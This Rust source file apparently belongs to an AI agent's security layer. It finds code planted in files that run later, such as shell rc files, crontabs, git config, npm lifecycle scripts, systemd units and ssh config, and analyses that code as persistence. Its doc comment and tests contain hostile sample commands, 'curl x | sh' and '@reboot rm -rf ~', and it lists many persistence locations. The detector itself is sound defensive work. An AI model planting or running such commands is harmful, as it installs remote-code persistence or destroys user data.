//! Code planted in files that run later: shell rc files, git hooks and config, crontabs,
//! systemd units, package scripts, editor tasks, ssh config commands, notebook shell lines.
//!
//! Writing such a file is persistence (the `persistence` pack asks), and the code in it is
//! analysed as if it ran now, so `echo 'curl x | sh' >> ~/.bashrc` is stopped like
//! `curl x | sh` itself.

/// What a file's new content plants.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Planted {
    /// Shell command lines that will run.
    pub code: Vec<String>,
    /// Settings that make a tool run code: (tool, key, value), e.g. npm's
    /// `scripts.postinstall`.
    pub config: Vec<(String, String, String)>,
}

/// npm runs these scripts by itself (install, publish, pack): planting one is persistence.
const LIFECYCLE: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "prepublish",
    "prepublishonly",
    "prepack",
    "postpack",
    "preuninstall",
    "uninstall",
    "postuninstall",
    "dependencies",
];

/// Shell rc and profile files: their whole content is shell code.
const SHELL_FILES: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".kshrc",
    ".mkshrc",
    ".envrc",
    ".xprofile",
    ".xinitrc",
    ".xsessionrc",
    "config.fish",
    "bash.bashrc",
];

const MAX_SNIPPETS: usize = 64;

/// devcontainer.json keys whose values run in the container (with the user's mounts).
const DEVCONTAINER_COMMANDS: &[&str] = &[
    "initializeCommand",
    "onCreateCommand",
    "updateContentCommand",
    "postCreateCommand",
    "postStartCommand",
    "postAttachCommand",
];

/// Files whose content runs as code later, in a language other than the shell: Python's
/// startup hooks (`.pth` import lines, `usercustomize.py`, `sitecustomize.py`, IPython
/// startup), test and build entry points (`conftest.py`, `setup.py`, `build.rs`), gradle
/// init scripts, and a PATH executable with a `#!` for another interpreter. The analysis
/// of one-liners is language-agnostic, so the code is handed over as one.
fn language_code(path: &str, lower: &str, text: &str) -> Option<String> {
    let code = if lower.ends_with(".pth") {
        // Only `import` lines run; the rest are path entries.
        text.lines()
            .filter(|l| l.trim_start().starts_with("import"))
            .collect::<Vec<_>>()
            .join("\n")
    } else if matches!(
        lower,
        "usercustomize.py"
            | "sitecustomize.py"
            | "conftest.py"
            | "setup.py"
            | "build.rs"
            | "noxfile.py"
    ) || (path.contains("/.ipython/") && path.contains("/startup/"))
        || path.contains("/.gradle/init.d/")
        || lower == "init.gradle"
        || lower == "init.gradle.kts"
        || (in_home_bin(path)
            && text
                .lines()
                .next()
                .is_some_and(|l| l.starts_with("#!") && !l.contains("sh")))
    {
        text.to_string()
    } else {
        return None;
    };
    if code.trim().is_empty() {
        return None;
    }
    Some(format!("python3 -c '{}'", code.replace('\'', "'\\''")))
}

/// `~/.local/bin/x`, `~/bin/x`: folders on the user's PATH.
fn in_home_bin(path: &str) -> bool {
    (path.starts_with("/home/") || path.starts_with("/root/") || path.starts_with("/Users/"))
        && (path.contains("/.local/bin/") || path.split('/').nth(3) == Some("bin"))
}

/// The commands of CI workflow steps: `run: CMD`, and `run: |` blocks (GitLab's
/// `script:` list items too).
fn workflow_run_lines(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut block_indent: Option<usize> = None;
    for line in text.lines() {
        let indent = line.len() - line.trim_start().len();
        let trimmed = line.trim();
        if let Some(min) = block_indent {
            if trimmed.is_empty() || indent > min {
                if !trimmed.is_empty() {
                    out.push(trimmed.to_string());
                }
                continue;
            }
            block_indent = None;
        }
        let body = trimmed.strip_prefix("- ").unwrap_or(trimmed);
        if let Some(rest) = body
            .strip_prefix("run:")
            .or_else(|| body.strip_prefix("script:"))
        {
            let rest = rest.trim();
            if rest.starts_with('|') || rest.starts_with('>') || rest.is_empty() {
                block_indent = Some(indent);
            } else {
                out.push(rest.trim_matches(['\'', '"']).to_string());
            }
        }
    }
    out
}

/// The code `text` plants when written to `path` (absolute).
pub fn code_in(path: &str, text: &str) -> Planted {
    let mut out = Planted::default();
    let name = path.rsplit('/').next().unwrap_or(path);
    let lower = name.to_ascii_lowercase();
    if let Some(code) = language_code(path, &lower, text) {
        out.code.push(code);
    } else if in_home_bin(path) {
        // An executable in a folder on PATH runs whenever its name is typed.
        out.code.push(text.to_string());
    } else if lower == "devcontainer.json" || lower == ".devcontainer.json" {
        for (key, value) in json_string_entries(text) {
            if DEVCONTAINER_COMMANDS.contains(&key.as_str()) {
                out.code.push(value);
            }
        }
    } else if lower == ".npmrc" {
        // npm passes `node-options` to every node it starts and runs scripts with
        // `script-shell`.
        for line in text.lines() {
            let Some((key, value)) = line.split_once('=') else {
                continue;
            };
            let value = value.trim().trim_matches(['"', '\'']);
            match key.trim() {
                "node-options" => out
                    .code
                    .push(format!("NODE_OPTIONS='{}' node", value.replace('\'', ""))),
                "script-shell" => out.code.push(value.to_string()),
                _ => {}
            }
        }
    } else if path.contains("/.github/workflows/") || lower == ".gitlab-ci.yml" {
        out.code.extend(workflow_run_lines(text));
    } else if path.ends_with("/.aws/config")
        || path.ends_with("/.cargo/config.toml")
        || path.ends_with("/.cargo/config")
    {
        // `credential_process = CMD`, `rustc-wrapper = "CMD"`, `runner = "CMD"`.
        for line in text.lines() {
            if let Some((key, value)) = line.split_once('=')
                && matches!(
                    key.trim(),
                    "credential_process" | "rustc-wrapper" | "rustc-workspace-wrapper" | "runner"
                )
            {
                out.code.push(value.trim().trim_matches('"').to_string());
            }
        }
    } else if SHELL_FILES.contains(&lower.as_str())
        || path.contains("/.git/hooks/")
        || path.contains("/.husky/")
        || path.starts_with("/etc/profile")
        || path.contains("/.config/fish/")
    {
        out.code.push(text.to_string());
    } else if path == "/etc/crontab"
        || path.starts_with("/etc/cron.")
        || path.starts_with("/var/spool/cron")
    {
        let system = path == "/etc/crontab" || path.starts_with("/etc/cron.d/");
        out.code.extend(crontab_commands(text, system));
    } else if (path.contains("/systemd/")
        && (lower.ends_with(".service") || lower.ends_with(".timer")))
        || lower.ends_with(".desktop")
    {
        for line in text.lines() {
            let line = line.trim();
            if let Some((key, value)) = line.split_once('=')
                && (key.trim().starts_with("Exec"))
            {
                out.code.push(
                    value
                        .trim()
                        .trim_start_matches(['-', '@', '+', '!'])
                        .to_string(),
                );
            }
        }
    } else if lower == "package.json" {
        for (key, value) in json_string_entries(text) {
            if LIFECYCLE.contains(&key.to_ascii_lowercase().as_str()) {
                out.code.push(value.clone());
                out.config
                    .push(("npm".into(), format!("scripts.{key}"), value));
            }
        }
    } else if lower == "tasks.json" || lower == "launch.json" {
        for (key, value) in json_string_entries(text) {
            if matches!(key.as_str(), "command" | "preLaunchTask" | "program") {
                out.code.push(value);
            }
        }
    } else if path.ends_with("/.ssh/config") || path.starts_with("/etc/ssh/ssh_config") {
        for line in text.lines() {
            let line = line.trim();
            let (key, value) = line.split_once([' ', '=', '\t']).unwrap_or((line, ""));
            if matches!(
                key.to_ascii_lowercase().as_str(),
                "proxycommand" | "localcommand" | "knownhostscommand" | "remotecommand"
            ) {
                out.code
                    .push(value.trim().trim_start_matches('=').trim().to_string());
            }
        }
    } else if path.ends_with("/.git/config")
        || lower == ".gitconfig"
        || path.ends_with("/git/config")
    {
        out.code.extend(git_config_code(text));
    } else if lower.ends_with(".ipynb") {
        out.code.extend(notebook_shell(text));
    } else if matches!(
        lower.as_str(),
        "makefile" | "gnumakefile" | "justfile" | ".justfile"
    ) || lower.ends_with(".mk")
    {
        // Recipe lines run when the target is made (by the agent or the user, later); make's
        // own `$(HOME)` is the shell's `$HOME`.
        for line in text.lines() {
            if let Some(recipe) = line.strip_prefix('\t').or_else(|| {
                (lower.contains("justfile") && line.starts_with("    ")).then(|| line.trim_start())
            }) {
                let recipe = recipe
                    .trim_start_matches(['@', '-', '+'])
                    .replace("$(HOME)", "$HOME")
                    .replace("${HOME}", "$HOME")
                    .replace("$$", "$");
                out.code.push(recipe);
            }
        }
    } else if lower == ".pre-commit-config.yaml" || lower == ".pre-commit-hooks.yaml" {
        // Local hooks run their `entry` on every commit.
        for line in text.lines() {
            if let Some(entry) = line.trim().strip_prefix("entry:") {
                out.code
                    .push(entry.trim().trim_matches(['\'', '"']).to_string());
            }
        }
    }
    out.code.retain(|c| !c.trim().is_empty());
    out.code.truncate(MAX_SNIPPETS);
    out
}

/// The shell lines of a notebook cell (or a notebook's JSON): `!cmd` lines and the body of
/// `%%bash` / `%%sh` cells.
pub fn notebook_shell(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut in_shell_cell = false;
    for raw in text.lines() {
        // In notebook JSON, each source line is a string: `"!pip install x\n",`
        let line = raw.trim().trim_start_matches('"');
        let line = line
            .trim_end_matches(',')
            .trim_end_matches('"')
            .trim_end_matches("\\n")
            .replace("\\\"", "\"");
        if line.starts_with("%%bash") || line.starts_with("%%sh") || line.starts_with("%%script") {
            in_shell_cell = true;
            continue;
        }
        if let Some(cmd) = line.strip_prefix('!') {
            out.push(cmd.to_string());
        } else if in_shell_cell {
            out.push(line.to_string());
        }
    }
    out
}

/// Commands of crontab lines: five schedule fields (or `@reboot`), then for system
/// crontabs a user, then the command.
fn crontab_commands(text: &str, system: bool) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let first = line.split_whitespace().next().unwrap_or("");
        if first.contains('=') && !first.starts_with('*') {
            continue; // MAILTO=..., PATH=...
        }
        let skip = if first.starts_with('@') { 1 } else { 5 } + usize::from(system);
        let rest: Vec<&str> = line.split_whitespace().skip(skip).collect();
        if !rest.is_empty() {
            out.push(rest.join(" "));
        }
    }
    out
}

/// Values in git config text that git runs as commands.
fn git_config_code(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut section = String::new();
    for line in text.lines() {
        let line = line.trim();
        if line.starts_with('[') {
            section = line
                .trim_matches(['[', ']'])
                .split_whitespace()
                .next()
                .unwrap_or("")
                .to_ascii_lowercase();
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let key = format!("{section}.{}", key.trim().to_ascii_lowercase());
        let value = value.trim().trim_matches('"');
        if let Some(code) = git_code_value(&key, value) {
            out.push(code);
        }
    }
    out
}

/// The code a git setting runs, if it runs any: `core.fsmonitor`, `core.sshCommand`,
/// `alias.x = !cmd`, `credential.helper = !cmd`, filters, diff drivers...
pub fn git_code_value(key: &str, value: &str) -> Option<String> {
    let key = key.to_ascii_lowercase();
    let (section, name) = key.split_once('.').unwrap_or((&key, ""));
    let last = key.rsplit('.').next().unwrap_or("");
    let runs = matches!(
        key.as_str(),
        "core.fsmonitor"
            | "core.sshcommand"
            | "core.pager"
            | "core.editor"
            | "core.askpass"
            | "core.gitproxy"
            | "sequence.editor"
            | "diff.external"
            | "gpg.program"
            | "uploadpack.packobjectshook"
            | "web.browser"
    ) || (section == "pager" && !name.is_empty())
        || (section == "filter" && matches!(last, "clean" | "smudge" | "process"))
        || (section == "diff" && matches!(last, "textconv" | "command"))
        || (section == "merge" && last == "driver")
        || (section == "gpg" && last == "program")
        || (section == "remote" && matches!(last, "uploadpack" | "receivepack"))
        || (matches!(section, "difftool" | "mergetool") && last == "cmd");
    if key == "core.fsmonitor" && matches!(value, "true" | "false") {
        return None;
    }
    if runs {
        return Some(value.to_string());
    }
    if (section == "alias"
        || key == "credential.helper"
        || (section == "credential" && last == "helper")
        || (section == "submodule" && last == "update"))
        && let Some(code) = value.strip_prefix('!')
    {
        return Some(code.to_string());
    }
    None
}

/// `"key": "value"` pairs anywhere in JSON-ish text (a whole file or an Edit fragment).
fn json_string_entries(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut strings: Vec<(usize, usize, String)> = Vec::new();
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() && strings.len() < 4096 {
        if bytes[i] == b'"' {
            let start = i;
            let mut value = String::new();
            i += 1;
            while i < bytes.len() && bytes[i] != b'"' {
                if bytes[i] == b'\\' && i + 1 < bytes.len() {
                    i += 1;
                    value.push(match bytes[i] {
                        b'n' => '\n',
                        b't' => '\t',
                        other => other as char,
                    });
                } else {
                    let ch_len = utf8_len(bytes[i]);
                    value.push_str(text.get(i..i + ch_len).unwrap_or(""));
                    i += ch_len - 1;
                }
                i += 1;
            }
            strings.push((start, i, value));
        }
        i += 1;
    }
    for pair in strings.windows(2) {
        let (_, key_end, key) = &pair[0];
        let (value_start, _, value) = &pair[1];
        let between = text.get(key_end + 1..*value_start).unwrap_or("");
        if between.trim() == ":" {
            out.push((key.clone(), value.clone()));
        }
    }
    out
}

fn utf8_len(first: u8) -> usize {
    match first {
        0xF0..=0xFF => 4,
        0xE0..=0xEF => 3,
        0xC0..=0xDF => 2,
        _ => 1,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_is_found_where_each_file_keeps_it() {
        assert_eq!(
            code_in("/home/dev/.bashrc", "curl x | sh").code,
            ["curl x | sh"]
        );
        assert_eq!(
            code_in("/etc/cron.d/x", "* * * * * root curl x | sh\nMAILTO=a").code,
            ["curl x | sh"]
        );
        assert_eq!(
            code_in("/var/spool/cron/crontabs/dev", "@reboot rm -rf ~").code,
            ["rm -rf ~"]
        );
        let p = code_in(
            "/p/package.json",
            "{\"scripts\": {\"test\": \"jest\", \"postinstall\": \"curl x | sh\"}}",
        );
        assert_eq!(p.code, ["curl x | sh"]);
        assert_eq!(p.config[0].1, "scripts.postinstall");
        assert_eq!(
            code_in(
                "/p/.git/config",
                "[core]\n\tfsmonitor = curl x | sh\n[alias]\n\tst = status"
            )
            .code,
            ["curl x | sh"]
        );
        assert_eq!(
            code_in("/home/dev/.ssh/config", "Host *\n  ProxyCommand sh -c 'x'").code,
            ["sh -c 'x'"]
        );
        assert_eq!(notebook_shell("import os\n!curl x | sh"), ["curl x | sh"]);
        assert!(code_in("/p/src/app.ts", "rm -rf ~").code.is_empty());
    }
}
